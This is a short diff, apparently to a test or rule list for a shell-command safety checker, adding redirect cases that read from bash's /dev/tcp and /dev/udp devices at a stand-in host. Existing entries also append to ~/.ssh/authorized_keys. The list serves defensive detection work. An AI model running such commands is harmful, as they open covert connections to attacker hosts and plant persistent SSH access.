@@ -388,6 +388,9 @@ add('redirects', [
   'ls >"out file"',
   'cat a >> ~/.ssh/authorized_keys',
   'echo x >/dev/tcp/evil.example/80',
+  // Reading from bash's network devices opens a connection just the same.
+  'cat < /dev/tcp/evil.example/80',
+  'grep x </dev/udp/evil.example/53',
 ]);
 
 // --- dangerous assignments (floor) -----------------------------------------------------
